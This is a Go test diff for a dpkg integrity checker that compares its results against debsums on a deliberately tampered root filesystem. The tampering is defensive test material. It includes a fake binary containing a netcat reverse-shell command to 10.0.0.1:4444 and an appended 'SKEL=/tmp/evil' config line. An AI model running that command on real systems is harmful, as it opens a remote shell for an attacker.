@@ -3,12 +3,9 @@ package pkgdb
 import (
 	"bufio"
 	"bytes"
-	"crypto/md5"
-	"encoding/hex"
 	"io/fs"
 	"os"
 	"os/exec"
-	"path"
 	"path/filepath"
 	"regexp"
 	"strings"
@@ -57,23 +54,17 @@ func TestDebsumsOracle(t *testing.T) {
 	}
 	root := filepath.Join(bundle, "rootfs")
 	at := func(p string) string { return filepath.Join(root, filepath.FromSlash(p)) }
-	must := func(err error) {
-		t.Helper()
-		if err != nil {
-			t.Fatal(err)
-		}
-	}
-	must(os.WriteFile(at("/usr/bin/shuf"), []byte("#!/bin/sh\nexec nc -e /bin/sh 10.0.0.1 4444\n"), 0o755))
-	must(os.Remove(at("/usr/bin/shred")))
-	must(os.Remove(at("/usr/bin/tac")))
-	must(os.Mkdir(at("/usr/bin/tac"), 0o755))
+	must(t, os.WriteFile(at("/usr/bin/shuf"), []byte("#!/bin/sh\nexec nc -e /bin/sh 10.0.0.1 4444\n"), 0o755))
+	must(t, os.Remove(at("/usr/bin/shred")))
+	must(t, os.Remove(at("/usr/bin/tac")))
+	must(t, os.Mkdir(at("/usr/bin/tac"), 0o755))
 	conf, err := os.OpenFile(at("/etc/adduser.conf"), os.O_APPEND|os.O_WRONLY, 0)
-	must(err)
+	must(t, err)
 	_, err = conf.WriteString("\nSKEL=/tmp/evil\n")
-	must(err)
-	must(conf.Close())
-	must(os.MkdirAll(at(DpkgConfigD), 0o755))
-	must(os.WriteFile(at(DpkgConfigD+"/docker"), []byte("path-exclude /usr/share/doc/*\npath-include /usr/share/doc/*/copyright\n"), 0o644))
+	must(t, err)
+	must(t, conf.Close())
+	must(t, os.MkdirAll(at(DpkgConfigD), 0o755))
+	must(t, os.WriteFile(at(DpkgConfigD+"/docker"), []byte("path-exclude /usr/share/doc/*\npath-include /usr/share/doc/*/copyright\n"), 0o644))
 
 	// The oracle.
 	cmd := exec.Command(debsums, "-a", "--root", root)
@@ -114,7 +105,7 @@ func TestDebsumsOracle(t *testing.T) {
 	// pkgdb over the same files.
 	files := map[string][]byte{}
 	for _, dir := range []string{"/var/lib/dpkg", "/etc/dpkg"} {
-		must(filepath.WalkDir(at(dir), func(p string, d fs.DirEntry, err error) error {
+		must(t, filepath.WalkDir(at(dir), func(p string, d fs.DirEntry, err error) error {
 			if err != nil || !d.Type().IsRegular() {
 				return err
 			}
@@ -128,7 +119,7 @@ func TestDebsumsOracle(t *testing.T) {
 		}))
 	}
 	db, err := ReadDpkg(files, DefaultLimits)
-	must(err)
+	must(t, err)
 	ours := map[string]Status{}
 	conffile := map[string]bool{}
 	for _, p := range db.Packages {
@@ -139,7 +130,7 @@ func TestDebsumsOracle(t *testing.T) {
 			if f.Digest == "" {
 				continue
 			}
-			o := observeDir(t, root, f.Path)
+			o := observeDir(t, root, f.Path, true)
 			o.Excluded = db.Filters.Excluded(f.Path, false)
 			_, o.Diverted = DivertedTo(db.Diversions, f.Path, p.Name)
 			ours[f.Path] = Verify(f, o)
@@ -189,18 +180,19 @@ func TestDebsumsOracle(t *testing.T) {
 	}
 }
 
-// observeDir is what the unpacked rootfs holds at p, resolved inside root
-// as debsums does (parents and the final symlink followed, clamped at the
-// root).
-func observeDir(t *testing.T, root, p string) Observed {
+// observeDir is what an unpacked rootfs holds at p, resolved inside root
+// (parents always, the final symlink when final is set: debsums follows it,
+// rpm -V and apk audit do not).
+func observeDir(t *testing.T, root, p string, final bool) Observed {
 	t.Helper()
 	lookup := func(q string) entry {
-		fi, err := os.Lstat(filepath.Join(root, filepath.FromSlash(q)))
+		full := filepath.Join(root, filepath.FromSlash(q))
+		fi, err := os.Lstat(full)
 		switch {
 		case err != nil:
 			return entry{}
 		case fi.Mode()&fs.ModeSymlink != 0:
-			target, err := os.Readlink(filepath.Join(root, filepath.FromSlash(q)))
+			target, err := os.Readlink(full)
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -212,16 +204,22 @@ func observeDir(t *testing.T, root, p string) Observed {
 		}
 		return entry{kind: Other}
 	}
-	r := resolve(p, true, lookup)
+	r := resolve(p, final, lookup)
 	e := lookup(r)
-	o := Observed{Kind: e.kind, LinkTarget: e.linkTarget}
 	if e.kind == Regular {
-		b, err := os.ReadFile(filepath.Join(root, filepath.FromSlash(path.Clean(r))))
+		b, err := os.ReadFile(filepath.Join(root, filepath.FromSlash(r)))
 		if err != nil {
 			t.Fatal(err)
 		}
-		m := md5.Sum(b)
-		o.MD5 = hex.EncodeToString(m[:])
+		e = contentEntry(b)
 	}
-	return o
+	return Observed{Kind: e.kind, LinkTarget: e.linkTarget, MD5: e.md5, SHA1: e.sha1, SHA256: e.sha256}
+}
+
+// must fails the test on an error.
+func must(t *testing.T, err error) {
+	t.Helper()
+	if err != nil {
+		t.Fatal(err)
+	}
 }
